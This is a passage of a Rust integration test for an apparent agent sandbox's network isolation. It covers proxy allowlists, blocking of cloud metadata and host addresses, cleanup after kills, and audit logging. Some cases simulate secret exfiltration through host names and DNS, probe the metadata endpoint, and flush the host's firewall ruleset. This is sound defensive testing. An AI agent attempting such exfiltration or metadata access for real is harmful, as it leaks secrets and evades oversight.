                hits.fetch_add(1, Ordering::SeqCst);
            }
        });
        let udp = std::net::UdpSocket::bind(("0.0.0.0", HOST_UDP)).unwrap();
        let hits = stray_udp.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 64];
            while udp.recv_from(&mut buf).is_ok() {
                hits.fetch_add(1, Ordering::SeqCst);
            }
        });
    }
    // A host service on an abstract Unix socket (they belong to a network namespace).
    let host_abstract =
        UnixListener::bind_addr(&UnixAddr::from_abstract_name(HOST_ABSTRACT.as_bytes()).unwrap())
            .unwrap();
    let abstract_hits = Arc::new(AtomicUsize::new(0));
    {
        let hits = abstract_hits.clone();
        std::thread::spawn(move || {
            for _ in host_abstract.incoming() {
                hits.fetch_add(1, Ordering::SeqCst);
            }
        });
    }
    let spawn = Spawn {
        home: tempfile::tempdir().unwrap(),
        dns: dns_server(),
    };
    // The stand-ins are what they claim: the host reaches them all.
    for (addr, port) in [
        (PUBLIC.to_string(), 80),
        (PRIVATE.to_string(), 80),
        (METADATA.to_string(), 80),
        ("127.0.0.1".to_owned(), HOST_TCP),
        (HOST_OWN.to_owned(), HOST_TCP),
    ] {
        std::net::TcpStream::connect((addr.as_str(), port))
            .unwrap_or_else(|e| panic!("the host cannot reach {addr}:{port}: {e}"));
    }
    UnixStream::connect_addr(&UnixAddr::from_abstract_name(HOST_ABSTRACT.as_bytes()).unwrap())
        .expect("the host's abstract socket");
    // Once each server has counted that visit, start from zero.
    let counters = [&public_hits, &private_hits, &metadata_hits, &abstract_hits];
    let counted = (0..500).any(|_| {
        std::thread::sleep(Duration::from_millis(10));
        counters.iter().all(|c| c.load(Ordering::SeqCst) == 1)
    });
    assert!(counted, "the host's own visits were not counted");
    for c in counters {
        c.store(0, Ordering::SeqCst);
    }
    // Forwarding starts off here, so the LAN reaches nothing through the host. (A record
    // left by an earlier test that died, in a namespace with this inode, is not ours.)
    let _ = std::fs::remove_file(forwarding_record());
    assert_eq!(ip_forward(), "0");
    assert!(lan_reaches_the_world(&lan).starts_with("ERR"));
    let mut passed = 0;
    let mut case = |name: &str| {
        println!("case {name}");
        passed += 1;
    };

    for runtime in ["native", "container", "gvisor"] {
        case(&format!("{runtime}, restricted: allowlisted names work with and without the proxy settings, nothing else"));
        let out = spawn.run_on(
            runtime,
            &["--net", "restricted", "--allow", "allowed.test", "--json"],
            PROBE,
        );
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{runtime}: {stdout}\n{stderr}");
        assert!(
            field(&stdout, "proxy").starts_with("http://10.201."),
            "{runtime}: {stdout}"
        );
        expect_fields(
            runtime,
            &stdout,
            &[
                ("allowed", "hello_from_11.0.0.1,_Host:_allowed.test"),
                ("other", "HTTP403:not-allowlisted"),
            ],
        );
        // Refused with the reason; an allowed host that redirects to a blocked one gets
        // its next request refused.
        expect_fields(
            runtime,
            &stdout,
            &[
                ("redirect", "HTTP403:blocked-address"),
                ("redirect_direct", "HTTP403:blocked-address"),
                ("metadata", "HTTP403:blocked-address"),
                ("metadata_hex", "HTTP403:blocked-address"),
                ("private_name", "HTTP403:not-allowlisted"),
                ("private_ip", "HTTP403:blocked-address"),
            ],
        );
        // Without HTTP_PROXY: the sandbox's DNS and the transparent redirect.
        expect_fields(
            runtime,
            &stdout,
            &[("direct_allowed", "hello_from_11.0.0.1,_Host:_allowed.test")],
        );
        assert!(
            field(&stdout, "direct_other").starts_with("ERR")
                || field(&stdout, "direct_other").starts_with("HTTP403"),
            "{runtime}: {stdout}"
        );
        expect_fields(
            runtime,
            &stdout,
            &[
                ("direct_ip", "HTTP403:not-allowlisted"),
                ("raw22", "ERR:ConnectionRefusedError"),
                ("rawprivate", "ERR:ConnectionRefusedError"),
            ],
        );
        // Port 80 anywhere reaches the proxy (transparently), which refuses the address.
        expect_fields(
            runtime,
            &stdout,
            &[
                ("direct_private", "HTTP403:blocked-address"),
                ("dns_allowed", "11.0.0.1"),
            ],
        );
        assert!(
            field(&stdout, "dns_other").starts_with("ERR"),
            "{runtime}: {stdout}"
        );
        assert!(
            field(&stdout, "dns_private").starts_with("ERR"),
            "{runtime}: {stdout}"
        );
        assert_eq!(
            private_hits.load(Ordering::SeqCst),
            0,
            "the private server was reached"
        );
    }

    case("every attempt is audited with host, port, address, decision and reason");
    let events = spawn.audit();
    let net: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["eventType"] == "agent.net.connect" && e["action"] == "connect")
        .collect();
    let allowed = net
        .iter()
        .find(|e| e["details"]["host"] == "allowed.test" && e["details"]["decision"] == "allow")
        .expect("an allowed connect event");
    assert_eq!(allowed["details"]["address"], "11.0.0.1");
    assert_eq!(allowed["details"]["port"], 80);
    assert_eq!(allowed["outcome"], "success");
    let denied = net
        .iter()
        .find(|e| e["details"]["host"] == "169.254.169.254")
        .expect("a denied metadata event");
    assert_eq!(denied["outcome"], "denied");
    assert_eq!(denied["details"]["reason"], "blocked-address");
    // And each run's totals when it ends.
    let summary = events
        .iter()
        .find(|e| e["eventType"] == "agent.net.connect" && e["action"] == "summary")
        .expect("a summary event");
    assert!(
        summary["details"]["connectionsAllowed"]
            .as_u64()
            .unwrap_or(0)
            >= 2,
        "{summary}"
    );
    assert!(
        summary["details"]["connectionsDenied"]
            .as_u64()
            .unwrap_or(0)
            >= 5,
        "{summary}"
    );
    assert!(
        summary["details"]["bytesIn"].as_u64().unwrap_or(0) > 0,
        "{summary}"
    );
    assert!(events.iter().any(|e| e["eventType"] == "agent.net.connect"
        && e["action"] == "close"
        && e["details"]["bytesIn"].as_u64().unwrap_or(0) > 0));
    // Each run's events carry its own trace id, the one its agent.start has.
    let starts: std::collections::BTreeSet<&str> = events
        .iter()
        .filter(|e| e["eventType"] == "agent.start")
        .filter_map(|e| e["traceId"].as_str())
        .collect();
    let net_runs: std::collections::BTreeSet<&str> =
        net.iter().filter_map(|e| e["traceId"].as_str()).collect();
    assert_eq!(net_runs.len(), 3, "{net_runs:?}");
    assert!(net_runs.is_subset(&starts), "{net_runs:?} {starts:?}");

    // A granted secret the agent puts in host names (to the proxy, and to the sandbox's
    // DNS), in a path, and on its stdout: the proxy's events and the output carry the
    // marker, never the value, in any case (a host name is folded to lowercase).
    let mut set = spawn
        .command()
        .args(["secrets", "set", "EXFIL_TOKEN", "--from-stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("spawn secrets set");
    set.stdin
        .take()
        .unwrap()
        .write_all(EXFIL_TOKEN.as_bytes())
        .unwrap();
    assert!(set.wait().unwrap().success(), "spawn secrets set");
    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}, restricted: a granted secret in host names is redacted from the proxy's events"
        ));
        let out = spawn.run_on(
            runtime,
            &[
                "--net",
                "restricted",
                "--allow",
                "allowed.test",
                "--secret",
                "EXFIL_TOKEN",
                "--json",
            ],
            EXFIL,
        );
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(0), "{runtime}: {stdout}");
        expect_fields(
            runtime,
            &stdout,
            &[
                ("value", "[REDACTED:EXFIL_TOKEN]"),
                ("host", "HTTP403:not-allowlisted"),
                ("path", "200"),
                ("dns", "ERR"),
            ],
        );
        let run: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
        let trace = run["runId"].as_str().unwrap_or_default().to_owned();
        let events: Vec<serde_json::Value> = spawn
            .audit()
            .into_iter()
            .filter(|e| e["traceId"] == trace.as_str())
            .collect();
        let text = serde_json::to_string(&events).unwrap();
        assert!(
            !text
                .to_ascii_lowercase()
                .contains(&EXFIL_TOKEN.to_ascii_lowercase()),
            "{runtime}: {text}"
        );
        assert!(
            events.iter().any(|e| e["eventType"] == "agent.net.connect"
                && e["details"]["host"]
                    .as_str()
                    .is_some_and(|h| h.starts_with("[REDACTED:EXFIL_TOKEN]"))),
            "{runtime}: {text}"
        );
    }

    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}, egress-only: public addresses and names, never private ones"
        ));
        let out = spawn.run_on(runtime, &["--net", "egress-only"], PROBE);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(0), "{runtime}: {stdout}");
        expect_fields(
            runtime,
            &stdout,
            &[
                ("other", "hello_from_11.0.0.1,_Host:_other.test"),
                ("direct_ip", "hello_from_11.0.0.1,_Host:_11.0.0.1"),
                ("private_name", "HTTP403:blocked-address"),
                ("metadata", "HTTP403:blocked-address"),
                ("raw22", "ERR:ConnectionRefusedError"),
            ],
        );
        assert_eq!(
            private_hits.load(Ordering::SeqCst),
            0,
            "the private server was reached"
        );
    }

    case("nothing connects in: a server in the sandbox cannot be reached from the host");
    let listen = r#"
import socket, subprocess, time
s = socket.socket(); s.bind(("0.0.0.0", 8080)); s.listen()
addr = subprocess.run(["ip", "-4", "-o", "addr", "show", "eth0"], capture_output=True, text=True).stdout.split()[3].split("/")[0]
print("addr", addr, flush=True)
s.settimeout(6)
try:
    s.accept(); print("accepted yes")
except Exception:
    print("accepted no")
"#;
    let mut child = Command::new(env!("CARGO_BIN_EXE_spawn"))
        .args([
            "run",
            "--runtime",
            "native",
            "--net",
            "egress-only",
            "--",
            "python3",
            "-c",
            listen,
        ])
        .env("SPAWN_HOME", spawn.home.path())
        .env(
            "SPAWN_EGRESS_NAMESERVER",
            format!("127.0.0.1:{}", spawn.dns),
        )
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut reader = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    reader.read_line(&mut line).unwrap();
    let addr = line
        .trim()
        .strip_prefix("addr ")
        .unwrap_or_else(|| panic!("{line}"))
        .to_owned();
    let reached = std::net::TcpStream::connect_timeout(
        &format!("{addr}:8080").parse().unwrap(),
        Duration::from_secs(2),
    );
    // Meanwhile: one proxy serves every run of the namespace, as nobody, not root. (Ours
    // is the one whose control socket is named after this test's network namespace.)
    let ours = {
        use std::os::unix::fs::MetadataExt as _;
        let ino = std::fs::metadata("/proc/self/ns/net").unwrap().ino();
        format!("egress-{ino}.sock")
    };
    let proxies = || -> Vec<(String, String)> {
        sh(&["ps", "-eo", "pid=,uid=,args="])
            .lines()
            .filter(|l| l.contains("spawn-egress") && l.contains(&ours))
            .filter_map(|l| {
                let mut f = l.split_whitespace();
                Some((f.next()?.to_owned(), f.next()?.to_owned()))
            })
            .collect()
    };
    let during = proxies();
    assert_eq!(during.len(), 1, "{during:?}");
    assert_eq!(during[0].1, "65534", "the proxy runs as {}", during[0].1);
    let second = spawn.run_on("native", &["--net", "egress-only"], "print('second')");
    assert_eq!(second.status.code(), Some(0));
    assert_eq!(proxies(), during, "a second run got another proxy");
    assert!(
        reached.is_err(),
        "the host connected into the sandbox at {addr}"
    );
    let mut rest = String::new();
    reader.read_to_string(&mut rest).unwrap();
    assert!(rest.contains("accepted no"), "{rest}");
    assert!(child.wait().unwrap().success());

    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}: the host end's other ports, UDP, ICMP and raw sockets reach nothing"
        ));
        let before = (
            stray_tcp.load(Ordering::SeqCst),
            stray_udp.load(Ordering::SeqCst),
        );
        let out = spawn.run_on(runtime, &["--net", "egress-only"], STRAY);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(out.status.code(), Some(0), "{runtime}: {stdout}");
        expect_fields(
            runtime,
            &stdout,
            &[
                ("host_tcp", "ERR:ConnectionRefusedError"),
                ("raw_icmp", "ERR:PermissionError"),
                ("raw_tcp", "ERR:PermissionError"),
                ("packet", "ERR:PermissionError"),
            ],
        );
        // A datagram is refused at once (the namespace's filter) or sent and dropped (at
        // the link's host end, for gVisor's netstack); the listeners below see nothing.
        for key in ["public_udp", "host_udp"] {
            assert!(
                ["sent", "ERR:PermissionError"].contains(&field(&stdout, key)),
                "{runtime}: {key}: {stdout}"
            );
        }
        // A ping socket may exist (it is not raw), but its echo reaches nobody.
        assert!(
            field(&stdout, "ping").starts_with("ERR"),
            "{runtime}: {stdout}"
        );
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(
            (
                stray_tcp.load(Ordering::SeqCst),
                stray_udp.load(Ordering::SeqCst)
            ),
            before,
            "{runtime}: a listener on the host's side was reached"
        );
    }

    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}: the host kernel sees the agent's sockets only where it runs them"
        ));
        let sockets = agent_sockets(&spawn, runtime);
        if runtime == "gvisor" {
            // netstack: the agent's listener and connection live in gVisor's kernel.
            assert!(
                !sockets.contains(":8080") && !sockets.contains(":3128"),
                "gvisor: the host kernel holds the agent's sockets:\n{sockets}"
            );
        } else {
            assert!(
                sockets.contains(":8080") && sockets.contains(":3128"),
                "{runtime}: the agent's sockets are not the host kernel's:\n{sockets}"
            );
        }
    }

    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}: spawn killed at any moment of set-up leaves no link and no filter (egress-only and full)"
        ));
        for i in 0..30u64 {
            let policy = if i % 2 == 0 { "egress-only" } else { "full" };
            let mut child = Command::new(env!("CARGO_BIN_EXE_spawn"))
                .args(["run", "--runtime", runtime, "--net", policy, "--", "true"])
                .env("SPAWN_HOME", spawn.home.path())
                .env(
                    "SPAWN_EGRESS_NAMESERVER",
                    format!("127.0.0.1:{}", spawn.dns),
                )
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap();
            // Spread over the set-up (forwarding, namespace, pair, filters, proxy
            // registration, start).
            std::thread::sleep(Duration::from_millis(i * 7));
            let _ = child.kill();
            let _ = child.wait();
        }
        // Killed while the agent runs and knocks on the host's doors: a sandbox that
        // outlives spawn keeps no link, walled or not.
        for policy in ["egress-only", "full"] {
            let before = stray_tcp.load(Ordering::SeqCst);
            let mut child = Command::new(env!("CARGO_BIN_EXE_spawn"))
                .args(["run", "--runtime", runtime, "--net", policy, "--"])
                .args(["python3", "-c", &KNOCK.replace("HOST_OWN", HOST_OWN)])
                .env("SPAWN_HOME", spawn.home.path())
                .env(
                    "SPAWN_EGRESS_NAMESERVER",
                    format!("127.0.0.1:{}", spawn.dns),
                )
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            let mut line = String::new();
            BufReader::new(child.stdout.take().unwrap())
                .read_line(&mut line)
                .unwrap();
            assert_eq!(line.trim(), "knocking", "{runtime}, {policy}");
            let _ = child.kill();
            let _ = child.wait();
            std::thread::sleep(Duration::from_millis(1500));
            assert_eq!(
                stray_tcp.load(Ordering::SeqCst),
                before,
                "{runtime}, {policy}: a sandbox that outlived spawn reached the host"
            );
        }
        // Nothing is reaped by a later run: the run died with spawn.
        let gone = (0..100).any(|_| {
            std::thread::sleep(Duration::from_millis(50));
            !sh(&["ip", "-o", "link"]).contains("spw")
                && !sh(&["nft", "list", "tables"]).contains("spawn-spw")
        });
        assert!(
            gone,
            "{runtime}: left behind:\n{}\n{}",
            sh(&["ip", "-o", "link"]),
            sh(&["nft", "list", "tables"])
        );
    }

    case("nothing is left: no link, no proxy");
    let links = sh(&["ip", "-o", "link"]);
    assert!(!links.contains("spw"), "{links}");
    // The proxy leaves once idle (10 s without a run).
    let mut procs = String::new();
    for _ in 0..40 {
        procs = sh(&["ps", "-eo", "args"]);
        if !procs.contains(&ours) {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    assert!(!procs.contains(&ours), "{procs}");

    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}, full: the outside directly, never the host's own addresses, loopback, metadata or abstract sockets; warned about and audited"
        ));
        let before = spawn.audit().len();
        let strays = (
            stray_tcp.load(Ordering::SeqCst),
            stray_udp.load(Ordering::SeqCst),
        );
        let (stdout, stderr, host_reached_agent) = spawn.full_probe(runtime);
        let expected = [
            ("proxy", "none"),
            // The outside, directly: TCP and UDP, a public and a private address, and
            // names through the host's resolver on its loopback (its answer as it is).
            ("public_http", "hello_from_11.0.0.1,_Host:_11.0.0.1"),
            ("public_tcp", "CONNECTED"),
            ("public_udp", "REPLY:ping"),
            ("private_http", "hello_from_10.0.0.5,_Host:_10.0.0.5"),
            ("dns", "11.0.0.1"),
            ("dns_private", "10.0.0.5"),
            // Never the host itself: its own address, the link's host end, its loopback
            // (the sandbox's loopback is its own), the metadata service, IPv6.
            ("host_own_tcp", "ERR:ConnectionRefusedError"),
            ("host_end_tcp", "ERR:ConnectionRefusedError"),
            ("loopback_tcp", "ERR:ConnectionRefusedError"),
            ("metadata_tcp", "ERR:ConnectionRefusedError"),
            ("other_run_tcp", "ERR:ConnectionRefusedError"),
            // An address the host got after the run's link was made counts at once.
            ("new_host_addr_tcp", "ERR:ConnectionRefusedError"),
            // Abstract Unix sockets are the namespace's: the host's are not there.
            ("abstract_seen", "no"),
            ("abstract_connect", "ERR:ConnectionRefusedError"),
        ];
        let mismatches: Vec<String> = expected
            .iter()
            .filter(|(key, want)| field(&stdout, key) != *want)
            .map(|(key, want)| format!("{key}: want {want}, got {}", field(&stdout, key)))
            .collect();
        assert!(
            mismatches.is_empty(),
            "{runtime}: {mismatches:#?}\n{stdout}\n{stderr}"
        );
        for key in [
            "host_own_udp",
            "host_end_udp",
            "loopback_udp",
            "metadata_udp",
            "metadata_v6",
        ] {
            assert!(
                field(&stdout, key).starts_with("ERR"),
                "{runtime}: {key}: {stdout}"
            );
        }
        assert!(
            host_reached_agent.starts_with("ERR"),
            "{runtime}: the host connected to the agent's abstract socket: {host_reached_agent}"
        );
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(
            (
                stray_tcp.load(Ordering::SeqCst),
                stray_udp.load(Ordering::SeqCst),
                metadata_hits.load(Ordering::SeqCst),
                abstract_hits.load(Ordering::SeqCst),
            ),
            (strays.0, strays.1, 0, 0),
            "{runtime}: a host service was reached"
        );
        assert!(
            stderr.contains("net policy full gives the agent direct network access"),
            "{runtime}: {stderr}"
        );
        let events = spawn.audit();
        assert!(
            events[before..].iter().any(|e| e["action"] == "full-access"
                && e["resource"]["name"] == "net"
                && e["details"]["policy"] == "full"),
            "{runtime}: no full-access audit event"
        );
        assert!(
            !sh(&["ip", "-o", "link"]).contains("spw")
                && !sh(&["nft", "list", "tables"]).contains("spawn-spw"),
            "{runtime}: a link or its filter outlived the run"
        );
    }
    private_hits.store(0, Ordering::SeqCst);

    case("full: forwarding was off, so spawn turned it on for its links only, guarded; a flushed guard comes back");
    assert_eq!(ip_forward(), "1");
    assert!(
        lan_reaches_the_world(&lan).starts_with("ERR"),
        "the host forwards the LAN's packets because of spawn"
    );
    assert!(sh(&["nft", "list", "tables"]).contains("table ip spawn-forward-guard"));
    // Without the guard the LAN would get through (so the check above can fail) ...
    sh(&["nft", "flush", "ruleset"]);
    assert_eq!(lan_reaches_the_world(&lan), "CONNECTED");
    // ... and the next full run puts it back.
    let out = spawn.run_on("native", &["--net", "full"], "print('again')");
    assert_eq!(out.status.code(), Some(0));
    assert!(lan_reaches_the_world(&lan).starts_with("ERR"));

    case("full: a run with a model reaches its gateway on the host end, and no other port of the host there");
    {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("answers.yaml"),
            "responses:\n  - text: hi\n",
        )
        .unwrap();
        let manifest = dir.path().join("agent.yaml");
        std::fs::write(
            &manifest,
            "apiVersion: spawn.dev/v1\nkind: Agent\nmetadata: {name: modelfull}\nspec:\n  command: [\"true\"]\n  model: {provider: scripted, name: m, endpoint: answers.yaml}\n",
        )
        .unwrap();
        let probe = "import os, socket, urllib.parse, urllib.request\n\
             base = os.environ['ANTHROPIC_BASE_URL']; host = urllib.parse.urlparse(base).hostname\n\
             req = urllib.request.Request(base + '/v1/models', headers={'x-api-key': os.environ['ANTHROPIC_API_KEY']})\n\
             print('models', urllib.request.urlopen(req, timeout=10).status)\n\
             s = socket.socket(); s.settimeout(3)\n\
             try:\n    s.connect((host, 22)); print('host22 open')\n\
             except Exception as e:\n    print('host22', type(e).__name__)\n";
        let m = manifest.to_string_lossy().into_owned();
        for runtime in ["native", "gvisor"] {
            let out = spawn.run_ok(runtime, &["-f", &m, "--net", "full"], probe);
            assert!(out.contains("models 200"), "{runtime}: {out}");
            assert!(
                out.contains("host22 ") && !out.contains("host22 open"),
                "{runtime}: {out}"
            );
        }
    }

    case("full: a run whose network cannot be made does not run (exit 125), never on the host's network");
    // Every tool spawn needs but nftables.
    let tools = tempfile::tempdir().unwrap();
    for tool in ["ip", "unshare", "nsenter", "cat", "runc", "runsc"] {
        let found = ["/usr/sbin", "/usr/bin", "/sbin", "/bin"]
            .iter()
            .map(|d| Path::new(d).join(tool))
            .find(|p| p.exists())
            .unwrap_or_else(|| panic!("{tool} is not installed"));
        std::os::unix::fs::symlink(found, tools.path().join(tool)).unwrap();
    }
    for runtime in ["native", "container", "gvisor"] {
        let out = Command::new(env!("CARGO_BIN_EXE_spawn"))
            .args(["run", "--runtime", runtime, "--net", "full", "--json", "--"])
            .args(["python3", "-c", "print('ran')"])
            .env("SPAWN_HOME", spawn.home.path())
            .env("PATH", tools.path())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(125), "{runtime}: {stderr}");
        assert!(!stdout.contains("ran"), "{runtime}");
        assert!(stderr.contains("network"), "{runtime}: {stderr}");
        // Said in --json too, and on record: the attempt and its failure.
        let result: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
        assert_eq!(result["exitCode"], 125, "{runtime}: {result}");
        assert!(
            result["error"]
                .as_str()
                .is_some_and(|e| e.contains("network")),
            "{runtime}: {result}"
        );
        let events = spawn.audit();
        let trace: Vec<&serde_json::Value> = events
            .iter()
            .filter(|e| e["traceId"] == result["runId"])
            .collect();
        let kinds: Vec<(String, String)> = trace
            .iter()
            .map(|e| (e["eventType"].to_string(), e["outcome"].to_string()))
            .collect();
        assert_eq!(
            kinds,
            [
                ("\"agent.start\"".to_owned(), "\"error\"".to_owned()),
                ("\"agent.stop\"".to_owned(), "\"error\"".to_owned())
            ],
            "{runtime}: {trace:#?}"
        );
    }
    assert!(!sh(&["ip", "-o", "link"]).contains("spw"));

    let strays = stray_tcp.load(Ordering::SeqCst);
    for (i, runtime) in ["native", "container", "gvisor"].into_iter().enumerate() {
        case(&format!(
            "{runtime}: the host itself is never reached through the proxy, whatever the path or spelling (host-address)"
        ));
        // An address the host gets just now (the proxy of the previous runtime's runs is
        // still up), and its IPv6 address.
        let new = format!("11.0.3.{}", i + 1);
        sh(&["ip", "addr", "add", &format!("{new}/32"), "dev", "lo"]);
        sh(&[
            "ip",
            "-6",
            "addr",
            "replace",
            &format!("{HOST_V6}/128"),
            "dev",
            "lo",
            "nodad",
        ]);
        let script = HOST
            .replace("HOST_OWN", HOST_OWN)
            .replace("NEW_ADDR", &new)
            .replace("HOST_V6", HOST_V6)
            .replace("HOST_TCP6", &HOST_TCP6.to_string())
            .replace("HOST_TCP", &HOST_TCP.to_string());
        for flags in [
            &[
                "--net",
                "restricted",
                "--allow",
                "host.test",
                "--allow",
                "allowed.test",
            ][..],
            &["--net", "egress-only"][..],
        ] {
            let out = spawn.run_on(runtime, flags, &script);
            let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(0), "{runtime}: {stdout}\n{stderr}");
            for line in stdout.lines() {
                let (name, result) = line.split_once(' ').unwrap();
                let want = match name {
                    "tls_name" => "CLOSED",
                    "dns_host" => "ERR:gaierror",
                    // Port 80 of the host is redirected to the proxy, which refuses it.
                    _ => "403:host-address",
                };
                assert_eq!(result, want, "{runtime} {flags:?}: {name}: {stdout}");
            }
            assert!(stdout.lines().count() >= 24, "{runtime}: {stdout}");
        }
        sh(&["ip", "addr", "del", &format!("{new}/32"), "dev", "lo"]);
        assert_eq!(
            stray_tcp.load(Ordering::SeqCst),
            strays,
            "{runtime}: a host service was reached"
        );
    }
    case("each refusal of the host is audited with its own reason, TLS included");
    let events = spawn.audit();
    // Repeats are aggregated by the audit limits: count the summaries' events too.
    let all = tally::refusals(&events, "host-address");
    assert_eq!(all.unknown, 0, "{all:?}");
    assert!(all.total() >= 3 * 2 * 23, "{all:?}");
    assert!(all.verbatim > 0, "{all:?}");
    let host_denials: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| {
            e["eventType"] == "agent.net.connect" && e["details"]["reason"] == "host-address"
        })
        .collect();
    assert!(host_denials
        .iter()
        .any(|e| e["details"]["via"] == "TLS" && e["details"]["host"] == "host.test"));
    assert!(host_denials.iter().all(|e| e["outcome"] == "denied"));

    // The proxy's descriptor limit is the host's maximum.
    let nr_open = std::fs::read_to_string("/proc/sys/fs/nr_open").unwrap();
    let proxy_pid = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .find(|e| {
            std::fs::read_to_string(e.path().join("comm")).is_ok_and(|c| c.trim() == "spawn-egress")
        })
        .map(|e| e.path())
        .expect("the egress proxy is running");
    let limits = std::fs::read_to_string(proxy_pid.join("limits")).unwrap();
    let open_files = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap()
        .split_whitespace()
        .skip(3)
        .take(2)
        .collect::<Vec<_>>();
    case("the shared proxy's descriptor limit is the most the host allows");
    let (_, hard) =
        nix::sys::resource::getrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE).unwrap();
    let got: Vec<u64> = open_files.iter().map(|n| n.parse().unwrap()).collect();
    assert_eq!(got[0], got[1], "{limits}");
    assert!(
        got[0] == nr_open.trim().parse::<u64>().unwrap() || got[0] >= hard,
        "{limits}"
    );

    let manifest_dir = tempfile::tempdir().unwrap();
    let manifest = manifest_dir.path().join("capped.yaml");
    std::fs::write(
        &manifest,
        "apiVersion: spawn.dev/v1\nkind: Agent\nmetadata: {name: capped}\nspec:\n  \
         capabilities:\n    net: {policy: egress-only, maxConnections: 8}\n",
    )
    .unwrap();
    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}: a run at its maxConnections is refused (429, audited) and another run starts and works meanwhile"
        ));
        let mut first = Command::new(env!("CARGO_BIN_EXE_spawn"))
            .args(["run", "--runtime", runtime, "-f"])
            .arg(&manifest)
            .args(["--", "python3", "-c", &HOLD.replace("TRIES", "20")])
            .env("SPAWN_HOME", spawn.home.path())
            .env(
                "SPAWN_EGRESS_NAMESERVER",
                format!("127.0.0.1:{}", spawn.dns),
            )
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut reader = BufReader::new(first.stdout.take().unwrap());
        let mut answers = String::new();
        reader.read_line(&mut answers).unwrap();
        let mut holding = String::new();
        reader.read_line(&mut holding).unwrap();
        assert_eq!(holding.trim(), "holding", "{runtime}: {answers}");
        assert_eq!(answers.trim(), "answers 200=8 429-limit=12", "{runtime}");
        let stdout = spawn.run_ok(
            runtime,
            &["--net", "egress-only"],
            "import urllib.request\nprint(urllib.request.urlopen('http://11.0.0.1/', timeout=10).read().decode().strip())",
        );
        assert_eq!(
            stdout.trim(),
            "hello from 11.0.0.1, Host: 11.0.0.1",
            "{runtime}"
        );
        drop(first.stdin.take());
        let status = first.wait().unwrap();
        assert_eq!(status.code(), Some(0), "{runtime}");
    }
    let events = spawn.audit();
    let limited = tally::refusals(&events, "connection-limit");
    assert_eq!(
        (limited.total(), limited.unknown),
        (3 * 12, 0),
        "one audit event per refused connection, verbatim or in a summary: {limited:?}"
    );

    for runtime in ["native", "container", "gvisor"] {
        case(&format!(
            "{runtime}: a flood of refused requests takes a bounded share of the log, counted exactly, and another run's events are all written"
        ));
        // A log of its own: every line in it is one of these two runs'.
        let home = Spawn {
            home: tempfile::tempdir().unwrap(),
            dns: spawn.dns,
        };
        // Defaults: windows of 5 s, 5 verbatim per key, 100 per window, 64 keys.
        let flood = Flood::start(&home, runtime, 2000, 6, None);
        // Meanwhile another run's allowed fetches: its own limits, untouched by the flood.
        let stdout = home.run_ok(
            runtime,
            &["--net", "restricted", "--allow", "allowed.test"],
            FETCH5,
        );
        assert_eq!(
            stdout
                .lines()
                .filter(|l| *l == "hello from 11.0.0.1, Host: allowed.test")
                .count(),
            5,
            "{runtime}: {stdout}"
        );
        let (refused, took) = flood.finish(runtime);
        assert!(refused >= 2000, "{runtime}: {refused}");
        let text = std::fs::read_to_string(home.home.path().join("audit/audit.jsonl")).unwrap();
        let events = home.audit();
        let flood = trace_with(&events, |e| e["details"]["reason"] == "not-allowlisted");
        let fetch = trace_with(&events, |e| e["details"]["host"] == "allowed.test");

        // Every refusal is in the log, verbatim or counted in a summary, and the totals
        // agree with what the agent saw.
        let t = tally::refusals(&flood, "not-allowlisted");
        assert_eq!((t.total(), t.unknown), (refused, 0), "{runtime}: {t:?}");
        assert!(t.verbatim > 0 && t.summarized > 0, "{runtime}: {t:?}");
        let summary = net_summary(&flood);
        assert_eq!(
            summary["details"]["connectionsDenied"], refused,
            "{runtime}"
        );
        assert_eq!(
            summary["details"]["auditEventsWritten"].as_u64().unwrap()
                + summary["details"]["auditEventsSummarized"]
                    .as_u64()
                    .unwrap(),
            refused,
            "{runtime}: {summary}"
        );
        // The first repeat held back is said once.
        let rate: Vec<_> = flood
            .iter()
            .filter(|e| e["action"] == "audit.limit" && e["resource"]["name"] == "rate")
            .collect();
        assert_eq!(rate.len(), 1, "{runtime}: {rate:#?}");
        assert_eq!(rate[0]["eventType"], "resource.exhausted", "{runtime}");
        // Bounded: per window at most 100 verbatim and a summary per key (64) and kind,
        // whatever the number of attempts; far below a line per attempt.
        let windows = took.as_millis() as usize / 5000 + 2;
        assert!(
